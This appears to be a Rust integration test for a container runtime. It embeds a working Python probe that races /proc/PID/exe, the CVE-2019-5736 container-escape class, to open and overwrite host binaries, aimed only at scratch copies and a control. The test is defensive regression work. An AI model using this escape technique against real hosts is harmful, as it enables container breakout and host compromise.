//! Escapes from a container to the host, tried from inside a real container.
//!
//! The host's dockling binary must not be reachable (let alone writable) through
//! `/proc/PID/exe` of a process dockling puts into a container (the CVE-2019-5736 class).

mod common;
use common::*;

use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::time::{Duration, Instant};

/// The attacker, as the container's command (python image). It watches /proc for new pids
/// and, for each, opens `/proc/PID/exe` (O_PATH) as fast as it can until the pid is gone,
/// stopping the process between tries (SIGSTOP/SIGCONT, allowed between processes of the
/// same uid) to widen any window. Every distinct file it gets is kept open. When told to
/// stop, it reopens each kept file for writing via /proc/self/fd/N and overwrites its first
/// bytes, but only for the files the test named as scratch targets (never anything else).
/// argv: OUT_DIR SCRATCH_IDS (comma-separated dev:ino) ; result: OUT_DIR/result.json.
const PROBE_PY: &str = r#"
import errno, json, os, signal, sys, time
out, scratch = sys.argv[1], set(filter(None, sys.argv[2].split(',')))
me = os.getpid()
seen = set(int(p) for p in os.listdir('/proc') if p.isdigit())
kept = {}          # dev:ino -> {fd, link, pid}
tried = denied = 0
new_pids = []

def attack(pid):
    global denied
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        stopped = False
        try:
            os.kill(pid, signal.SIGSTOP)
            stopped = True
        except ProcessLookupError:
            return
        except PermissionError:
            pass
        try:
            fd = os.open('/proc/%d/exe' % pid, os.O_PATH | os.O_CLOEXEC)
        except (FileNotFoundError, ProcessLookupError):
            return
        except PermissionError:
            denied += 1
            continue
        finally:
            if stopped:
                try:
                    os.kill(pid, signal.SIGCONT)
                except ProcessLookupError:
                    pass
        st = os.fstat(fd)
        key = '%d:%d' % (st.st_dev, st.st_ino)
        if key in kept:
            os.close(fd)
        else:
            kept[key] = {'fd': fd, 'pid': pid, 'link': os.readlink('/proc/self/fd/%d' % fd)}

open(os.path.join(out, 'ready'), 'w').close()
stop = os.path.join(out, 'stop')
while not os.path.exists(stop):
    for name in os.listdir('/proc'):
        if name.isdigit() and int(name) not in seen:
            pid = int(name)
            seen.add(pid)
            new_pids.append(pid)
            attack(pid)

# Nothing runs the binaries now (the test said stop): overwrite the scratch targets.
writes = {}
for key, k in kept.items():
    if key not in scratch:
        continue
    result = 'not tried'
    end = time.monotonic() + 10
    while time.monotonic() < end:
        try:
            w = os.open('/proc/self/fd/%d' % k['fd'], os.O_WRONLY)
        except OSError as e:
            result = 'open: ' + errno.errorcode.get(e.errno, str(e.errno))
            if e.errno == errno.ETXTBSY:
                time.sleep(0.05)
                continue
            break
        try:
            os.pwrite(w, b'#!/bin/sh\necho overwritten-from-the-container\n', 0)
            result = 'written'
        except OSError as e:
            result = 'write: ' + errno.errorcode.get(e.errno, str(e.errno))
        os.close(w)
        break
    writes[key] = result

res = {'new_pids': len(new_pids), 'denied': denied,
       'kept': {key: {'pid': k['pid'], 'link': k['link']} for key, k in kept.items()},
       'writes': writes}
with open(os.path.join(out, 'result.json.tmp'), 'w') as f:
    json.dump(res, f)
os.rename(os.path.join(out, 'result.json.tmp'), os.path.join(out, 'result.json'))
"#;

fn file_id(path: &Path) -> String {
    let m = std::fs::metadata(path).unwrap_or_else(|e| panic!("stat {}: {e}", path.display()));
    format!("{}:{}", m.dev(), m.ino())
}

fn sha256(path: &Path) -> String {
    let o = std::process::Command::new("sha256sum").arg(path).output().expect("sha256sum");
    String::from_utf8_lossy(&o.stdout).split_whitespace().next().unwrap_or_default().to_string()
}

fn wait_file(path: &Path, what: &str) {
    let start = Instant::now();
    while !path.exists() {
        assert!(start.elapsed() < WAIT, "timed out waiting for {what} ({})", path.display());
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Starts the probe in a default python container; returns (name, out dir).
fn start_probe(sim: &SimHost, base: &str, scratch_ids: &[String]) -> (String, std::path::PathBuf) {
    let out = sim.tmp.join(format!("{base}-out"));
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(out.join("probe.py"), PROBE_PY).unwrap();
    let name = sim.cname(base);
    let vol = format!("{}:/out", out.display());
    sim.run_d(&["--name", &name, "-v", &vol, "python", "python3", "/out/probe.py", "/out", &scratch_ids.join(",")]);
    wait_file(&out.join("ready"), "the probe to start");
    (name, out)
}

/// Tells the probe to stop; returns its result, parsed and as text.
fn stop_probe(sim: &SimHost, name: &str, out: &Path) -> (Json, String) {
    std::fs::write(out.join("stop"), "").unwrap();
    let result = out.join("result.json");
    let start = Instant::now();
    while !result.exists() {
        if start.elapsed() > WAIT {
            let logs = sim.dockling(&["logs", name]);
            panic!("the probe wrote no result:\n{logs}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let text = std::fs::read_to_string(&result).unwrap();
    (Json::parse(&text).unwrap_or_else(|e| panic!("probe result {text:?}: {e}")), text)
}

#[test]
fn exec_does_not_expose_the_host_binary_through_proc_exe() {
    let sim = SimHost::new("esc-exe");
    sim.image("python");
    // `exec` runs from a scratch copy of dockling, so that a successful attack rewrites the
    // copy (and the test sees it) instead of the binary the other tests use.
    // DOCKLING_ESCAPE_EXEC_BIN copies another build instead (to see an older one fail).
    let exec_bin = std::env::var("DOCKLING_ESCAPE_EXEC_BIN").unwrap_or_else(|_| bin().to_string());
    let copy = sim.tmp.join("dockling-copy");
    std::fs::copy(&exec_bin, &copy).unwrap();
    let copy_id = file_id(&copy);
    let copy_hash = sha256(&copy);
    let real_id = file_id(Path::new(bin()));
    let real_hash = sha256(Path::new(bin()));
    // The positive control: a host program entered into the container's pid namespace by
    // hand, without dockling's protections (dumpable, same uid, no more capabilities).
    let control = sim.tmp.join("control-sleep");
    let sleep = sim.sh_ok("command -v sleep");
    std::fs::copy(sleep.trim(), &control).unwrap();
    let control_id = file_id(&control);
    let control_hash = sha256(&control);

    let (name, out) = start_probe(&sim, "probe", &[copy_id.clone(), control_id.clone()]);
    let pid = sim.wait_running_pid(&name);

    let root = sim.root.to_string_lossy().to_string();
    let execs = 40;
    for i in 0..execs {
        let mut c = sim.ns_command(&copy.to_string_lossy());
        c.args(["--root", &root, "exec", &name, "true"]);
        let o = run_cmd(c, CMD_TIMEOUT);
        assert!(o.ok(), "exec #{i} failed:\n{o}");
    }
    // `nsenter --pid` forks and, seeing its child stopped (the probe stops what it attacks),
    // would stop itself for good: it execs a shell instead (--no-fork), whose child is the
    // control, in the container's pid namespace, with no capabilities.
    let o = sim.sh(&format!(
        "nsenter --target {pid} --pid --no-fork -- setpriv --bounding-set -all --inh-caps -all sh -c {}",
        shq(&format!("{} 0.3 & wait $!", shq(&control.to_string_lossy())))
    ));
    assert!(o.ok(), "the control process did not run:\n{o}");

    let (res, text) = stop_probe(&sim, &name, &out);
    eprintln!("probe result: {text}");
    let new_pids = res.get("new_pids").as_i64().unwrap_or(0);
    // It attacks one pid at a time, so it misses some of the short-lived ones.
    assert!(new_pids > execs / 4, "the probe must have seen the exec'd processes: {text}");
    let kept = res.get("kept");
    // Control: the probe opened the unprotected process's exe and rewrote it.
    assert!(kept.get(&control_id).get("link").as_str().is_some(), "the probe could not open the control's exe: {text}");
    assert_eq!(res.get("writes").get(&control_id).as_str(), Some("written"), "{text}");
    assert_ne!(sha256(&control), control_hash, "the control binary was not overwritten: {text}");
    // The protected path: no dockling binary reached, neither the copy nor the real one.
    assert!(
        kept.get(&copy_id).get("link").as_str().is_none(),
        "a process of the container opened the dockling binary that ran `exec`: {text}"
    );
    assert!(kept.get(&real_id).get("link").as_str().is_none(), "the container opened the host's dockling: {text}");
    assert_eq!(sha256(&copy), copy_hash, "the dockling binary was rewritten from the container: {text}");
    assert_eq!(sha256(Path::new(bin())), real_hash, "the host's dockling changed: {text}");
    sim.dockling_ok(&["rm", "-f", &name]);
    sim.finish();
}
